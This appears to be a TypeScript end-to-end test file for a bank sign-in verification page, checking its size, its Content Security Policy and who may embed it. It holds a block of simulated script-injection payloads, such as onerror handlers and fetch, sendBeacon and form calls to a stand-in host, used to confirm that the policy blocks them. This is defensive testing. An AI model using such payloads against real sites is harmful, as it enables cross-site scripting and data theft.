/** The end user's page from outside: what it loads, and who may show it. */
import { expect } from '@jest/globals';
import { startMerchant } from '../../../tools/dev/merchant';
import { eventually } from '../../support/dev-server';
import { report } from '../../support/proof-size';
import { EndUser } from '../support/end-user';
import { signIn } from '../support/page-play';
import { type Pages } from '../support/page-visit';
import { type Together } from '../support/together';

/** What a script could try that got into the page; each is stopped by a directive of the policy. */
const ATTACKS = `(async () => {
  const stopped = [];
  document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
  const added = (name, changes) => document.body.append(Object.assign(document.createElement(name), changes));
  const attempts = [
    () => added('script', { src: 'https://foreign.example/x.js' }),
    () => added('button', {}) ?? document.body.lastChild.setAttribute('onclick', 'window.ran = 1'),
    () => document.body.lastChild.click(),
    () => { document.body.innerHTML += '<img src=x onerror="window.ran = 1">'; },
    () => fetch('https://foreign.example/fetched'),
    () => navigator.sendBeacon('https://foreign.example/beacon', 'x'),
    () => { new Image().src = 'https://foreign.example/x.png'; },
    () => added('iframe', { src: 'https://foreign.example/framed' }),
    () => added('link', { rel: 'stylesheet', href: 'https://foreign.example/x.css' }),
    () => added('style', { textContent: 'body { background: url(https://foreign.example/y.png) }' }),
    () => added('object', { data: 'https://foreign.example/object' }),
    () => added('base', { href: 'https://foreign.example/' }),
    () => added('form', { action: 'https://foreign.example/form', method: 'post' }) ?? document.body.lastChild.submit(),
    () => new Worker('https://foreign.example/worker.js'),
  ];
  for (const attempt of attempts) await new Promise((resolve) => resolve(attempt())).catch(() => undefined);
  await new Promise((resolve) => setTimeout(resolve, 200));
  return { ran: window.ran, stopped };
})()`;
const STOPPED = [
  ...['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem'],
  'require-trusted-types-for',
];

/** Declares the tests. */
export function fromOutside(pages: Pages, together: Together): void {
  together(
    'is small: few requests before the first form, and everything named by its policy',
    async (context) => {
      const window = await context.newPage();
      const asked: string[] = [];
      const complaints: string[] = [];
      window.on('request', (request) => asked.push(request.url()));
      window.on('console', (message) => complaints.push(message.text()));
      const { url } = await pages.addressOf();
      await window.goto(url);
      await new EndUser(window.mainFrame()).sees('Sign in at your bank');
      const sent = asked.filter((each) => !each.startsWith('data:'));
      expect(sent.length).toBeLessThanOrEqual(6);
      const ticket = new URL(url).hash.slice(1);
      expect(sent.filter((each) => each.slice(0, each.indexOf('#')).includes(ticket))).toEqual([]);
      expect(complaints).toEqual([]);
      // The document, a script and a style, as they come over the network.
      const sizes = await window.evaluate<number[]>(`performance.getEntries()
        .filter(({ name, encodedBodySize }) => name.includes('/page/') && encodedBodySize !== undefined)
        .map(({ encodedBodySize }) => encodedBodySize)`);
      expect(sizes).toHaveLength(3);
      expect(Math.min(...sizes)).toBeGreaterThan(0);
      const bytes = sizes.reduce((sum, each) => sum + each, 0);
      report(`The page: ${String(sent.length)} requests, ${String(bytes)} bytes before the form`);
      expect(bytes).toBeLessThanOrEqual(60 * 1_024);
    },
  );

  together('runs nothing that is put into it, and sends nothing elsewhere', async (context) => {
    const { window, endUser } = await pages.visit(context);
    await endUser.sees('Sign in at your bank');
    const elsewhere: string[] = [];
    window.on('response', (response) => elsewhere.push(response.url()));
    window.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp') elsewhere.push(request.url());
    });
    const { ran, stopped } = await window.evaluate<{ ran: unknown; stopped: string[] }>(ATTACKS);
    expect(ran).toBeUndefined();
    expect(new Set(stopped)).toEqual(new Set(STOPPED));
    const foreign = elsewhere.filter((each) => each.includes('foreign.example'));
    expect(foreign).toEqual([]);
  });

  together(
    'is embedded by the merchant, who hears what happens; and by nobody else',
    async (context) => {
      const { api, allow } = pages.started();
      const told: string[] = [];
      const merchant = await startMerchant(api(), { allow }, (line) => told.push(line));
      try {
        const window = await context.newPage();
        await window.goto(merchant.url);
        await window.getByRole('button', { name: 'user name and password' }).click();
        const frame = await (await window.waitForSelector('iframe')).contentFrame();
        const visit = { verificationId: '', window, endUser: new EndUser(frame!) };
        await signIn(visit, 'sim_legacy');
        await visit.endUser.sees('Account verified');
        await window.getByText('Ended: verified').waitFor();
        await frame!.getByRole('link', { name: 'Back to Acme' }).click();
        await window.locator('iframe').waitFor({ state: 'detached' });
        await window.getByLabel('Leave this page').check();
        await window.getByRole('button', { name: 'user name and password' }).click();
        const left = { verificationId: '', window, endUser: new EndUser(window.mainFrame()) };
        await signIn(left, 'sim_legacy');
        await window.getByRole('link', { name: 'Back to Acme' }).click();
        await window.getByText('Ended: verified').waitFor();
        expect(new URL(window.url()).searchParams.get('state')).toBe('order 7');
        expect(await window.evaluate('document.referrer')).toBe('');
        const finished = (): number => told.filter((line) => line.includes('.finished')).length;
        await eventually('its webhooks have come', () => finished() >= 2);
        const foreign = await context.newPage();
        await foreign.goto(merchant.url.replace('127.0.0.1', 'localhost'));
        const { url } = await pages.addressOf();
        await foreign.evaluate(`AtriumVerification.open({ url: ${JSON.stringify(url)} })`);
        const stopped = await (await foreign.waitForSelector('iframe')).contentFrame();
        await eventually('it is stopped', () => stopped!.url().startsWith('chrome-error:'));
      } finally {
        await merchant.close();
      }
    },
  );
}
